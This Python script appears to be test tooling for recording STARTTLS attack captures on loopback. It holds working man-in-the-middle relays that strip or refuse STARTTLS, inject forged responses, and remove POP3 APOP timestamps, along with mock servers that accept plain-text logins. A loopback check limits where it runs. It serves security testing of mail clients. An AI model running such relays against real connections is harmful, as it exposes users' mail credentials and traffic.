#!/usr/bin/python3
"""Loopback middleboxes and mock servers for the STARTTLS attack captures.

Modes:
  strip            relay that rewrites the server's STARTTLS (SMTP, IMAP) or
                   STLS (POP3) capability to a same-length run of X ending in
                   A, as some firewalls do (XXXXXXXA for SMTP).
  refuse           relay that answers the client's STARTTLS/STLS itself with
                   an error (SMTP 454, IMAP NO, POP3 -ERR) and never forwards
                   it, so the server stays in plain text.
  inject-response  relay that appends a forged plain-text response after the
                   server's STARTTLS go-ahead, before the TLS handshake.
  strip-apop       POP3 relay that removes the APOP timestamp <...@...> from
                   the server's greeting, so that a client falls back to
                   USER/PASS. The first --pass-first connections are relayed
                   unchanged.
  mock-smtp        SMTP server that accepts AUTH XOAUTH2 and OAUTHBEARER.
  mock-imap        IMAP server that accepts LOGIN and AUTHENTICATE XOAUTH2 /
                   OAUTHBEARER without TLS (also used on port 993 to put plain
                   text on an implicit-TLS port).
  mock-pop3        POP3 server that accepts USER/PASS without TLS.

Every socket is bound to a loopback address given on the command line. The
process runs until it is killed.
"""

import argparse
import re
import socket
import sys
import threading

LOOPBACK_PREFIXES = ("127.", "::1")

STARTTLS_WORD = {"smtp": b"STARTTLS", "imap": b"STARTTLS", "pop3": b"STLS"}
STRIPPED_WORD = {"smtp": b"XXXXXXXA", "imap": b"XXXXXXXA", "pop3": b"XXXA"}
STARTTLS_COMMAND = {
    "smtp": re.compile(rb"^STARTTLS\r?\n$", re.IGNORECASE),
    "imap": re.compile(rb"^(\S+) STARTTLS\r?\n$", re.IGNORECASE),
    "pop3": re.compile(rb"^STLS\r?\n$", re.IGNORECASE),
}
GO_AHEAD = {
    "smtp": re.compile(rb"^220[ -]"),
    "imap": re.compile(rb"^\S+ OK", re.IGNORECASE),
    "pop3": re.compile(rb"^\+OK"),
}
# The APOP timestamp of a POP3 greeting (RFC 1939 section 7), with the space
# before it.
APOP_TIMESTAMP = re.compile(rb" ?<[^<>\s]*@[^<>\s]*>")

INJECTED_RESPONSE = {
    "smtp": b"250 2.0.0 injected by the middlebox\r\n",
    "imap": b"* OK injected by the middlebox\r\n",
    "pop3": b"+OK injected by the middlebox\r\n",
}


def refusal(protocol, match):
    if protocol == "smtp":
        return b"454 4.7.0 TLS not available due to local problem\r\n"
    if protocol == "imap":
        return match.group(1) + b" NO [UNAVAILABLE] TLS not available\r\n"
    return b"-ERR TLS not available\r\n"


class Relay:
    """One client connection relayed to the real server, line by line until
    the STARTTLS exchange, then byte for byte."""

    def __init__(self, mode, protocol, client, upstream, strip_greeting=False):
        self.mode = mode
        self.protocol = protocol
        self.client = client
        self.server = upstream
        self.strip_greeting = strip_greeting
        self.greeting_seen = False
        self.starttls_sent = False
        self.raw = threading.Event()

    def run(self):
        thread = threading.Thread(target=self.pump_server_to_client, daemon=True)
        thread.start()
        self.pump_client_to_server()
        thread.join()

    def pump_client_to_server(self):
        buffer = b""
        try:
            while True:
                data = self.client.recv(4096)
                if not data:
                    break
                if self.raw.is_set():
                    self.server.sendall(buffer + data)
                    buffer = b""
                    continue
                buffer += data
                while b"\n" in buffer and not self.raw.is_set():
                    line, _, buffer = buffer.partition(b"\n")
                    self.forward_client_line(line + b"\n")
                if self.starttls_sent and buffer:
                    self.server.sendall(buffer)
                    buffer = b""
        except OSError:
            pass
        shutdown(self.server)

    def forward_client_line(self, line):
        match = STARTTLS_COMMAND[self.protocol].match(line)
        if match and self.mode == "refuse":
            self.client.sendall(refusal(self.protocol, match))
            return
        if match:
            self.starttls_sent = True
        self.server.sendall(line)

    def pump_server_to_client(self):
        buffer = b""
        try:
            while True:
                data = self.server.recv(4096)
                if not data:
                    break
                if self.raw.is_set():
                    self.client.sendall(data)
                    continue
                buffer += data
                while b"\n" in buffer and not self.raw.is_set():
                    line, _, buffer = buffer.partition(b"\n")
                    self.forward_server_line(line + b"\n")
                if self.raw.is_set() and buffer:
                    self.client.sendall(buffer)
                    buffer = b""
        except OSError:
            pass
        shutdown(self.client)

    def forward_server_line(self, line):
        if self.mode == "strip":
            line = line.replace(STARTTLS_WORD[self.protocol], STRIPPED_WORD[self.protocol])
        if self.strip_greeting and not self.greeting_seen:
            line = APOP_TIMESTAMP.sub(b"", line, count=1)
        self.greeting_seen = True
        if self.starttls_sent and GO_AHEAD[self.protocol].match(line):
            if self.mode == "inject-response":
                line += INJECTED_RESPONSE[self.protocol]
            self.raw.set()
        self.client.sendall(line)


def shutdown(sock):
    try:
        sock.shutdown(socket.SHUT_WR)
    except OSError:
        pass


def listen(address, port):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    server = socket.socket(family, socket.SOCK_STREAM)
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind((address, port))
    server.listen(8)
    return server


def serve_relay(args):
    server = listen(args.listen, args.port)
    accepted = 0
    while True:
        client, _ = server.accept()
        accepted += 1
        upstream = socket.create_connection((args.upstream, args.port), timeout=30)
        strip_greeting = args.mode == "strip-apop" and accepted > args.pass_first
        relay = Relay(args.mode, args.protocol, client, upstream, strip_greeting)
        threading.Thread(target=relay_and_close, args=(relay,), daemon=True).start()


def relay_and_close(relay):
    relay.run()
    relay.client.close()
    relay.server.close()


class LineSession:
    """A plain-text mock server session with line reads."""

    def __init__(self, sock):
        self.sock = sock
        self.buffer = b""

    def read_line(self):
        while b"\n" not in self.buffer:
            data = self.sock.recv(4096)
            if not data:
                return None
            self.buffer += data
        line, _, self.buffer = self.buffer.partition(b"\n")
        return line.rstrip(b"\r").decode("utf-8", "replace")

    def send(self, text):
        self.sock.sendall(text.encode())


def mock_smtp(session):
    session.send("220 mock.example.test ESMTP mock\r\n")
    while True:
        line = session.read_line()
        if line is None:
            return
        verb = line.split(" ", 1)[0].upper()
        if verb == "EHLO":
            session.send("250-mock.example.test\r\n250 AUTH XOAUTH2 OAUTHBEARER\r\n")
        elif verb == "AUTH":
            session.send("235 2.7.0 Authentication successful\r\n")
        elif verb == "QUIT":
            session.send("221 2.0.0 Bye\r\n")
            return
        else:
            session.send("502 5.5.2 Command not implemented\r\n")


def mock_imap(session):
    session.send("* OK [CAPABILITY IMAP4rev1 SASL-IR AUTH=XOAUTH2 AUTH=OAUTHBEARER] mock ready\r\n")
    while True:
        line = session.read_line()
        if line is None:
            return
        parts = line.split(" ")
        tag = parts[0]
        verb = parts[1].upper() if len(parts) > 1 else ""
        if verb in ("LOGIN", "AUTHENTICATE"):
            session.send(tag + " OK " + verb + " completed\r\n")
        elif verb == "LOGOUT":
            session.send("* BYE mock logging out\r\n" + tag + " OK LOGOUT completed\r\n")
            return
        else:
            session.send(tag + " BAD command not implemented\r\n")


def mock_pop3(session):
    session.send("+OK mock POP3 ready\r\n")
    while True:
        line = session.read_line()
        if line is None:
            return
        verb = line.split(" ", 1)[0].upper()
        if verb == "QUIT":
            session.send("+OK bye\r\n")
            return
        if verb in ("USER", "PASS", "STAT"):
            session.send("+OK\r\n" if verb != "STAT" else "+OK 0 0\r\n")
        else:
            session.send("-ERR command not implemented\r\n")


MOCKS = {"mock-smtp": mock_smtp, "mock-imap": mock_imap, "mock-pop3": mock_pop3}


def serve_mock(args):
    server = listen(args.listen, args.port)
    handler = MOCKS[args.mode]
    while True:
        client, _ = server.accept()
        threading.Thread(target=run_mock, args=(handler, client), daemon=True).start()


def run_mock(handler, client):
    try:
        handler(LineSession(client))
    except OSError:
        pass
    client.close()


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("mode", choices=["strip", "refuse", "inject-response", "strip-apop"] + sorted(MOCKS))
    parser.add_argument("--listen", required=True, help="loopback address to listen on")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--upstream", help="loopback address of the real server (relays only)")
    parser.add_argument("--protocol", choices=sorted(STARTTLS_WORD), default="smtp")
    parser.add_argument("--pass-first", type=int, default=0,
                        help="strip-apop: number of connections relayed unchanged before stripping starts")
    args = parser.parse_args()

    # Both ends must stay on this machine: the captures are made on lo only.
    addresses = [args.listen] + ([args.upstream] if args.upstream else [])
    if not all(address.startswith(LOOPBACK_PREFIXES) for address in addresses):
        print("middlebox.py: only loopback addresses are allowed", file=sys.stderr)
        return 2

    if args.mode in MOCKS:
        serve_mock(args)
    else:
        if not args.upstream:
            print("middlebox.py: --upstream is required for relays", file=sys.stderr)
            return 2
        serve_relay(args)
    return 0


if __name__ == "__main__":
    sys.exit(main())
